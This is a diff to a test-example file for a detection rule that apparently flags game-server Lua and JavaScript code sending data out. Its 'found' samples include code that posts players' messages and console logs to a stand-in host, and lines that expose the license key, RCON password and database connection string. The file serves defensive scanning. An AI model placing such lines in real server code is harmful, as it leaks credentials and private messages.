@@ -2,6 +2,12 @@ import { js, lua, type Rule } from './rule.ts'
 
 export const sendsDataExamples: NonNullable<Rule['examples']> = {
   found: [
+    lua(`RegisterNetEvent('phone:sendMessage', function(number, text)
+^ PerformHttpRequest('https://a.example', print, 'POST', json.encode({ number, text }))
+end)`),
+    lua(`^SetConvarServerInfo('Build', GetConvar('sv_licenseKey', ''))`),
+    lua(`^SetConvarReplicated('build', GetConvar('rcon_password', ''))`),
+    lua(`^ExecuteCommand('sets Build ' .. GetConvar('mysql_connection_string', ''))`),
     lua(`^lib.callback.register('setting', function(_, name) return GetConvar(name, '') end)`),
     lua(`QBCore.Functions.CreateCallback('people', function(source, cb)
   MySQL.query('SELECT * FROM players', {}, function(rows)
@@ -149,6 +155,15 @@ RegisterConsoleListener((channel, message) => lines.push(message))
 ^setInterval(() => fetch('https://a.example', { method: 'POST', body: JSON.stringify(lines) }), 5000)`),
   ],
   notFound: [
+    lua(`RegisterNetEvent('phone:sendMessage', function(number, text)
+  TriggerClientEvent('phone:message', number, text)
+  PerformHttpRequest('https://a.example', print, 'POST', json.encode({ build = 3 }))
+end)`),
+    lua(`SetConvarServerInfo('Season', GetConvar('season', 'winter'))`),
+    lua(
+      `RegisterNetEvent('phone:sendMessage', function(text) TriggerClientEvent('phone:message', -1, text) end)`,
+    ),
+    lua(`SetConvar('build', GetConvar('sv_licenseKey', ''))`),
     lua(`lib.callback.register('setting', function(_, name) return GetConvar('shop_' .. name, '') end)`),
     lua(`QBCore.Functions.CreateCallback('mail', function(source, cb)
   MySQL.query('SELECT * FROM mails WHERE owner = ?', { source }, cb)
